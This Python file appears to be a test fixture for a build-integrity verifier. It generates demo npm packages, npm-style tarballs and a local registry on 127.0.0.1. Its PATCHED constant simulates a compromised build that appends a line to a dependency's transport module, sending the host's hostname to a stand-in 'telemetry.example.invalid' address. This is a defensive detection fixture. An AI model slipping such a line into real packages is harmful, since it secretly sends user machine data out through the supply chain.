"""The demo app's npm dependencies, and the small npm registry the demo serves them from.

Everything is written here, deterministically: four small packages (``@demo/sip-client``,
``@demo/audio-codecs``, and two versions of ``tiny-ms``, one nested), their tarballs laid out
as ``npm pack`` does (``package/`` prefix, gzip), and a registry on 127.0.0.1 that answers
like registry.npmjs.org (``/NAME/VERSION`` with ``dist.tarball``, ``dist.integrity``,
``dist.shasum``; ``/NAME/latest``; the tarballs). No third-party code, no network.

The app ships the packages as electron-builder does: files as published, ``package.json``
stripped of ``scripts``, ``devDependencies``, ``keywords`` and re-serialised. The
compromised build patches one line of one dependency (``PATCHED``).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import tarfile
import threading
from collections.abc import Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import unquote, urlsplit

from verifier.record import record

_MTIME = 499162500  # npm pack's fixed timestamp (1985-10-26T08:15:00Z)


def _manifest(name: str, version: str, **extra: Any) -> bytes:
    doc: dict[str, Any] = {
        "name": name,
        "version": version,
        "description": extra.pop("description", ""),
        "main": "index.js",
        "license": "MIT",
        "scripts": {"test": "node test/run.js"},
        "keywords": ["demo"],
        "devDependencies": {"demo-test-runner": "^1.0.0"},
        **extra,
    }
    return json.dumps(doc, indent=2).encode() + b"\n"


_LICENSE = b"MIT License\n\nCopyright (c) biv demo\n"

#: (name, version) -> files as published
PACKAGES: dict[tuple[str, str], dict[str, bytes]] = {
    ("@demo/sip-client", "2.4.1"): {
        "package.json": _manifest(
            "@demo/sip-client",
            "2.4.1",
            description="SIP signalling for the demo softphone",
            dependencies={"@demo/audio-codecs": "^3.1.0", "tiny-ms": "^1.0.0"},
        ),
        "index.js": b"'use strict';\nconst { connect } = require('./lib/transport');\n"
        b"const codecs = require('@demo/audio-codecs');\n"
        b"module.exports = function register(server) {\n"
        b"  return connect(server, { codecs: codecs.list() });\n};\n",
        "lib/transport.js": b"'use strict';\nconst ms = require('tiny-ms');\n"
        b"exports.connect = function connect(server, opts) {\n"
        b"  return { server, opts, keepalive: ms('30s') };\n};\n",
        "README.md": b"# @demo/sip-client\n\nSIP registration for the biv demo.\n",
        "LICENSE": _LICENSE,
    },
    ("@demo/audio-codecs", "3.1.0"): {
        "package.json": _manifest(
            "@demo/audio-codecs",
            "3.1.0",
            description="Audio codec table for the demo softphone",
            dependencies={"tiny-ms": "^0.9.0"},
        ),
        "index.js": b"'use strict';\nconst ms = require('tiny-ms');\n"
        b"const codecs = [require('./codecs/opus'), require('./codecs/g711')];\n"
        b"exports.list = () => codecs.map((c) => ({ ...c, ptime: ms('20ms') }));\n",
        "codecs/opus.js": b"module.exports = { name: 'opus', rate: 48000 };\n",
        "codecs/g711.js": b"module.exports = { name: 'PCMU', rate: 8000 };\n",
        "LICENSE": _LICENSE,
    },
    ("tiny-ms", "1.0.2"): {
        "package.json": _manifest("tiny-ms", "1.0.2", description="Parse durations"),
        "index.js": b"'use strict';\nconst U = { ms: 1, s: 1000, m: 60000, h: 3600000 };\n"
        b"module.exports = function ms(t) {\n"
        b"  const m = /^(\\d+)(ms|s|m|h)$/.exec(String(t));\n"
        b"  return m ? Number(m[1]) * U[m[2]] : NaN;\n};\n",
        "LICENSE": _LICENSE,
    },
    ("tiny-ms", "0.9.0"): {
        "package.json": _manifest("tiny-ms", "0.9.0", description="Parse durations"),
        "index.js": b"module.exports = (t) => parseInt(t, 10);\n",
        "LICENSE": _LICENSE,
    },
}

#: where the app installs each package (inside app.asar)
INSTALL = {
    ("@demo/sip-client", "2.4.1"): "node_modules/@demo/sip-client",
    ("@demo/audio-codecs", "3.1.0"): "node_modules/@demo/audio-codecs",
    ("tiny-ms", "1.0.2"): "node_modules/tiny-ms",
    ("tiny-ms", "0.9.0"): "node_modules/@demo/audio-codecs/node_modules/tiny-ms",
}

#: the compromised build's change: (package, version, file, new content)
PATCHED = (
    "@demo/sip-client",
    "2.4.1",
    "lib/transport.js",
    PACKAGES[("@demo/sip-client", "2.4.1")]["lib/transport.js"]
    + b"require('https').get('https://telemetry.example.invalid/t?h=' + "
    b"require('os').hostname());\n",
)


def tarball(files: Mapping[str, bytes]) -> bytes:
    """A deterministic npm tarball: ``package/`` prefix, fixed times and owners, gzip."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name in sorted(files):
            data = files[name]
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            info.mtime = _MTIME
            info.mode = 0o644
            tf.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


def strip_like_electron_builder(manifest: bytes) -> bytes:
    """electron-builder drops scripts, devDependencies, keywords and ``_`` keys."""
    doc = json.loads(manifest)
    drop = {"scripts", "devDependencies", "keywords"}
    kept = {k: v for k, v in doc.items() if k not in drop and not k.startswith("_")}
    return json.dumps(kept, indent=2).encode()


def app_files(*, patched: bool = False) -> dict[str, bytes]:
    """The dependencies as the app ships them (paths inside app.asar)."""
    out: dict[str, bytes] = {}
    for key, files in PACKAGES.items():
        folder = INSTALL[key]
        for rel, data in files.items():
            if rel == "package.json":
                data = strip_like_electron_builder(data)
            out[f"{folder}/{rel}"] = data
    if patched:
        name, version, rel, data = PATCHED
        out[f"{INSTALL[(name, version)]}/{rel}"] = data
    return out


@record
class _Published:
    tarball: bytes
    integrity: str
    shasum: str


class DemoRegistry:
    """The demo's npm registry: a thread serving ``PACKAGES`` on 127.0.0.1 (``with`` it).

    ``tarballs`` serves ready-made tarballs instead (the benchmark serves real ones).
    """

    def __init__(
        self,
        packages: Mapping[tuple[str, str], Mapping[str, bytes]] = PACKAGES,
        *,
        tarballs: Mapping[tuple[str, str], bytes] | None = None,
    ) -> None:
        self.published: dict[tuple[str, str], _Published] = {}
        made = {k: tarball(f) for k, f in packages.items()} if tarballs is None else tarballs
        for key, tgz in made.items():
            integrity = "sha512-" + base64.b64encode(hashlib.sha512(tgz).digest()).decode()
            self.published[key] = _Published(tgz, integrity, hashlib.sha1(tgz).hexdigest())
        self._versions: dict[str, list[str]] = {}
        for n, v in sorted(self.published):
            self._versions.setdefault(n, []).append(v)
        self.requests = 0
        self._httpd: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None

    @property
    def url(self) -> str:
        assert self._httpd is not None, "registry not started"
        host, port = self._httpd.server_address[:2]
        return f"http://{host!s}:{port}/"

    def _answer(self, path: str) -> bytes | None:
        if "/-/" in path:
            name, _, file = path.partition("/-/")
            for v in self._versions.get(name, ()):
                if file == f"{name.rsplit('/', 1)[-1]}-{v}.tgz":
                    return self.published[(name, v)].tarball
            return None
        name, _, version = path.rpartition("/")
        versions = self._versions.get(name, [])
        if version == "latest" and versions:
            version = versions[-1]
        pub = self.published.get((name, version))
        if pub is None:
            return None
        base = name.rsplit("/", 1)[-1]
        doc = {
            "name": name,
            "version": version,
            "dist": {
                "tarball": f"{self.url}{name}/-/{base}-{version}.tgz",
                "integrity": pub.integrity,
                "shasum": pub.shasum,
            },
        }
        return json.dumps(doc).encode()

    def __enter__(self) -> DemoRegistry:
        registry = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                registry.requests += 1
                body = registry._answer(unquote(urlsplit(self.path).path).lstrip("/"))
                status = 200 if body is not None else 404
                body = body if body is not None else b'{"error":"Not found"}'
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._httpd.daemon_threads = True
        self._thread = threading.Thread(
            target=self._httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        if self._httpd is not None:
            self._httpd.shutdown()
            self._httpd.server_close()
        if self._thread is not None:
            self._thread.join(timeout=5)

    def env(self) -> dict[str, str]:
        """What points biv at this registry (and keeps it from asking the public one)."""
        return {"npm_config_registry": self.url, "BIV_NPM_PUBLIC_REGISTRY": ""}
